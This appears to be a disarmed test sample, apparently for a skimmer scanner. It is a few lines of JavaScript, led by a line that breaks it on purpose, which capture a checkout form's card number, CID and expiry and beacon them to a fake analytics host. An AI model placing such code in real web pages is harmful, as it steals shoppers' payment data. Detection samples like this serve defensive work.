shodo inert sample: deliberate syntax error, this script never runs (
var f = ['cc_number', 'cc_cid', 'cc_exp_month'];
document.querySelector('#checkout').addEventListener('submit', function () {
  var d = {}; f.forEach(function (n) { d[n] = document.getElementsByName(n)[0].value; });
  var i = new Image(); i.src = 'https://cdn-analytics-metrics.example/p.gif?d=' + btoa(JSON.stringify(d));
});
